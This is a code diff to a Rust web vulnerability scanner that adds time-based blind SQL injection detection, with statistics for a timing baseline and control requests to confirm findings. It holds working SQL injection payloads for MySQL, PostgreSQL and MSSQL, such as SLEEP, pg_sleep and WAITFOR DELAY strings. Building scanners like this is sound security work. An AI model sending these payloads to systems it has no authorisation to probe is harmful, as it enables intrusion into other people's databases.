@@ -1,3 +1,4 @@
+use crate::http_client::Paced;
 use reqwest::{Client, Method};
 use serde_json::{json, Value};
 use std::collections::HashMap;
@@ -8,6 +9,50 @@ use anyhow::Result;
 pub struct AdvancedTester {
     client: Client,
     url: String,
+    /// Seconds the time-based SQL injection payloads ask the database to sleep
+    sql_delay: u64,
+}
+
+/// Response times of unmodified requests, the reference for time-based payloads
+#[derive(Debug, Clone, Copy, PartialEq)]
+pub struct TimingBaseline {
+    pub mean_ms: f64,
+    pub stddev_ms: f64,
+}
+
+impl TimingBaseline {
+    pub fn from_samples(samples: &[u64]) -> Self {
+        if samples.is_empty() {
+            return Self { mean_ms: 0.0, stddev_ms: 0.0 };
+        }
+        let n = samples.len() as f64;
+        let mean_ms = samples.iter().sum::<u64>() as f64 / n;
+        let variance = samples.iter().map(|&s| (s as f64 - mean_ms).powi(2)).sum::<f64>() / n;
+        Self { mean_ms, stddev_ms: variance.sqrt() }
+    }
+
+    /// Slower than the baseline by most of the requested delay, and outside its normal spread
+    /// (3 standard deviations, at least 250 ms of jitter)
+    pub fn is_delayed(&self, elapsed_ms: u64, delay_secs: u64) -> bool {
+        let elapsed = elapsed_ms as f64;
+        elapsed >= self.mean_ms + delay_secs as f64 * 1000.0 * 0.8 && elapsed >= self.mean_ms + (3.0 * self.stddev_ms).max(250.0)
+    }
+}
+
+/// Time-delay payloads per database: (DBMS, payload). String and numeric contexts, comments
+/// without `#` so they survive the query string.
+pub fn time_based_payloads(delay_secs: u64) -> Vec<(&'static str, String)> {
+    let d = delay_secs;
+    vec![
+        ("MySQL", format!("1' AND SLEEP({})-- -", d)),
+        ("MySQL", format!("1 AND SLEEP({})", d)),
+        ("MySQL", format!("'XOR(IF(NOW()=SYSDATE(),SLEEP({}),0))XOR'", d)),
+        ("PostgreSQL", format!("1';SELECT pg_sleep({})--", d)),
+        ("PostgreSQL", format!("1' AND 1=(SELECT 1 FROM pg_sleep({}))--", d)),
+        ("PostgreSQL", format!("1 AND 1=(SELECT 1 FROM pg_sleep({}))", d)),
+        ("MSSQL", format!("1';WAITFOR DELAY '0:0:{}'--", d)),
+        ("MSSQL", format!("1 WAITFOR DELAY '0:0:{}'", d)),
+    ]
 }
 
 #[derive(Debug, Clone)]
@@ -32,7 +77,7 @@ pub enum Severity {
 
 impl AdvancedTester {
     pub fn new(url: &str) -> Result<Self> {
-        let client = Client::builder()
+        let client = crate::http_client::builder("probe::advanced_tests")
             .timeout(Duration::from_secs(10))
             .danger_accept_invalid_certs(true)
             .build()?;
@@ -40,9 +85,16 @@ impl AdvancedTester {
         Ok(Self {
             client,
             url: url.to_string(),
+            sql_delay: 5,
         })
     }
 
+    /// Sleep time for the time-based SQL injection payloads (default 5 s; must stay below the 10 s timeout)
+    pub fn with_sql_delay(mut self, secs: u64) -> Self {
+        self.sql_delay = secs;
+        self
+    }
+
     /// Test all HTTP methods comprehensively
     pub async fn test_http_methods(&self) -> Vec<TestResult> {
         let methods = vec![
@@ -62,7 +114,7 @@ impl AdvancedTester {
             let start = Instant::now();
             let method_str = method.as_str().to_string();
 
-            match self.client.request(method, &self.url).send().await {
+            match self.client.request(method, &self.url).send_paced().await {
                 Ok(response) => {
                     let status = response.status().as_u16();
                     let elapsed = start.elapsed().as_millis() as u64;
@@ -120,7 +172,63 @@ impl AdvancedTester {
             "' OR 1=1#",
         ];
 
-        self.test_parameter_fuzzing(param_name, &payloads, "SQL Injection").await
+        let mut results = self.test_parameter_fuzzing(param_name, &payloads, "SQL Injection").await;
+        results.extend(self.test_time_based_sql_injection(param_name).await);
+        results
+    }
+
+    /// Blind SQL injection by response time: payloads that make the database sleep are compared against a
+    /// baseline of normal requests. A delayed payload counts only if the same payload with a zero delay
+    /// is fast again and the delayed one is slow on a second try.
+    pub async fn test_time_based_sql_injection(&self, param_name: &str) -> Vec<TestResult> {
+        let mut samples = Vec::new();
+        for _ in 0..5 {
+            if let Some((_, elapsed)) = self.timed_get(param_name, "1").await {
+                samples.push(elapsed);
+            }
+        }
+        if samples.len() < 3 {
+            return Vec::new();
+        }
+        let baseline = TimingBaseline::from_samples(&samples);
+        let controls = time_based_payloads(0);
+
+        let mut results = Vec::new();
+        for ((dbms, payload), (_, control)) in time_based_payloads(self.sql_delay).into_iter().zip(controls) {
+            let Some((status, elapsed)) = self.timed_get(param_name, &payload).await else { continue };
+            if !baseline.is_delayed(elapsed, self.sql_delay) {
+                continue;
+            }
+            let Some((_, control_elapsed)) = self.timed_get(param_name, &control).await else { continue };
+            let Some((_, repeat_elapsed)) = self.timed_get(param_name, &payload).await else { continue };
+            if baseline.is_delayed(control_elapsed, self.sql_delay) || !baseline.is_delayed(repeat_elapsed, self.sql_delay) {
+                continue;
+            }
+            results.push(TestResult {
+                test_name: "Time-based SQL Injection Test".to_string(),
+                method: "GET".to_string(),
+                status,
+                response_time_ms: elapsed,
+                vulnerability: Some(format!("Blind SQL Injection detected: {} delay of {}s", dbms, self.sql_delay)),
+                severity: Severity::Critical,
+                details: format!(
+                    "Payload: {} ({} ms and {} ms, zero delay {} ms, baseline {:.0} ± {:.0} ms)",
+                    payload, elapsed, repeat_elapsed, control_elapsed, baseline.mean_ms, baseline.stddev_ms
+                ),
+            });
+            // One confirmed payload is enough
+            break;
+        }
+        results
+    }
+
+    async fn timed_get(&self, param_name: &str, value: &str) -> Option<(u16, u64)> {
+        let url = crate::fuzz::field_selection::with_param(&self.url, param_name, value);
+        let start = Instant::now();
+        let response = self.client.get(&url).send_paced().await.ok()?;
+        let status = response.status().as_u16();
+        let _ = response.bytes().await;
+        Some((status, start.elapsed().as_millis() as u64))
     }
 
     /// Test NoSQL Injection payloads
@@ -188,7 +296,7 @@ impl AdvancedTester {
             let url = format!("{}?{}={}", self.url, param_name, payload);
             let start = Instant::now();
 
-            match self.client.get(&url).send().await {
+            match self.client.get(&url).send_paced().await {
                 Ok(response) => {
                     let status = response.status().as_u16();
                     let elapsed = start.elapsed().as_millis() as u64;
@@ -253,7 +361,7 @@ impl AdvancedTester {
             match self.client
                 .get(&self.url)
                 .header("Authorization", format!("Bearer {}", test_token))
-                .send()
+                .send_paced()
                 .await
             {
                 Ok(response) => {
@@ -293,7 +401,7 @@ impl AdvancedTester {
         for i in 0..num_requests {
             let start = Instant::now();
 
-            match self.client.get(&self.url).send().await {
+            match self.client.get(&self.url).send_paced().await {
                 Ok(response) => {
                     let status = response.status().as_u16();
                     let elapsed = start.elapsed().as_millis() as u64;
@@ -346,7 +454,7 @@ impl AdvancedTester {
             match self.client
                 .get(&self.url)
                 .header("Origin", origin)
-                .send()
+                .send_paced()
                 .await
             {
                 Ok(response) => {
@@ -384,7 +492,7 @@ impl AdvancedTester {
 
     /// Deep response analysis
     pub async fn analyze_response_deep(&self) -> Result<Value> {
-        let response = self.client.get(&self.url).send().await?;
+        let response = self.client.get(&self.url).send_paced().await?;
         
         let status = response.status().as_u16();
         let headers: HashMap<String, String> = response
@@ -410,6 +518,11 @@ impl AdvancedTester {
             .map(|s| s.to_string())
             .collect();
 
+        let error_disclosure = match &json_parsed {
+            Some(v) => crate::analyze::error_disclosure::classify_json(v),
+            None => crate::analyze::error_disclosure::classify(&body),
+        };
+
         Ok(json!({
             "status": status,
             "headers": headers,
@@ -417,7 +530,8 @@ impl AdvancedTester {
             "is_json": json_parsed.is_some(),
             "json_structure": json_parsed,
             "sensitive_data_hints": sensitive_found,
-            "has_stack_trace": body.contains("at ") || body.contains("Traceback"),
+            "has_stack_trace": error_disclosure.as_ref().is_some_and(|d| d.kind != crate::analyze::error_disclosure::DisclosureKind::ErrorPage),
+            "error_disclosure": error_disclosure,
             "has_sql_error": body.to_lowercase().contains("sql") && body.to_lowercase().contains("error"),
         }))
     }